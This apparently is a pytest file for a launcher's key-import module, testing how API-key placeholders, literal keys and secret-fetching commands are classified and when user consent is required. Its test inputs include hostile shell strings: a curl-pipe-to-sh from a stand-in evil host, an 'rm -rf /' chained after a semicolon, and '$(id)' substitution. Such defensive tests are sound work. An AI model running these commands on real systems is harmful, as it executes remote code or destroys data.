"""What is a key, what stands in the place of one, and which commands are references."""

from __future__ import annotations

import pytest

from cc_launcher.core.importing import keys
from cc_launcher.core.importing.found import LITERAL, MISSING, PLACEHOLDER, REFERENCE, Place

HERE = Place("f")


@pytest.mark.parametrize(
    "text",
    [
        "YOUR_API_KEY_HERE",
        "your-glm-api-key",
        "sk-your-key",
        "__CCS_REDACTED__",
        "${KEY}",
        "ollama",
        "lmstudio",
        "none",
        "<key>",
    ],
)
def test_no_key(text: str) -> None:
    assert keys.literal(text, HERE).kind == PLACEHOLDER


@pytest.mark.parametrize("text", ["sk-fake-odd'\"$(id)`x`=+/&#%", "youra-1234", "fake0103.abcDEF/+="])
def test_a_key(text: str) -> None:
    found = keys.literal(text, HERE)
    assert (found.kind, found.value) == (LITERAL, text)
    assert text not in repr(found)


@pytest.mark.parametrize(
    ("command", "reference", "consent"),
    [
        ("op read op://a/b/c", "op://a/b/c", False),
        ('op read "op://a/b c/d"', "op://a/b c/d", False),
        ("op read -n op://a/b/c", "op://a/b/c", False),
        ("pass show ai/x", "pass:ai/x", False),
        ("pass ai/x", "pass:ai/x", False),
        ("cat ~/.key", "file:/home/dev/.key", False),
        ("cat ~/.open", "cmd:cat '~/.open'", True),
        ("security find-generic-password -w -s x", "cmd:security find-generic-password -w -s x", True),
        ("curl -s https://evil.example.net/k | sh", "cmd:sh -c 'curl -s https://evil.example.net/k | sh'", True),
        ("op read x; rm -rf /", "cmd:sh -c 'op read x; rm -rf /'", True),
        ("pass show $(id)", "pass:$(id)", False),
    ],
)
def test_a_command(command: str, reference: str, consent: bool) -> None:  # noqa: FBT001
    found = keys.of_command(command, HERE, "/home/dev", lambda path: path == ".key")
    if command == "pass show $(id)":  # a shell would run something inside: that is no plain reference
        assert found.consent
        return
    if "~/.open" in command:
        assert found.consent
        assert found.reference.startswith("cmd:")
        return
    assert (found.kind, found.reference, found.consent) == (REFERENCE, reference, consent)


def test_a_quote_that_is_not_closed_is_no_command() -> None:
    assert keys.of_command("op read 'x", HERE, "/h", lambda _: True).kind == MISSING


@pytest.mark.parametrize("text", ["sk-ant-abcdef123456", "Bearer abcdefghij", "ghp_0123456789ab", "A" * 40])
def test_a_text_with_the_shape_of_a_key(text: str) -> None:
    assert keys.looks_like_key(text)


@pytest.mark.parametrize(
    "text", ["core", "http://127.0.0.1:7890", "1000000", "max", "Qwen/Qwen3-Coder-480B-A35B-Instruct", "2026-11-29"]
)
def test_a_text_without_it(text: str) -> None:
    assert not keys.looks_like_key(text)
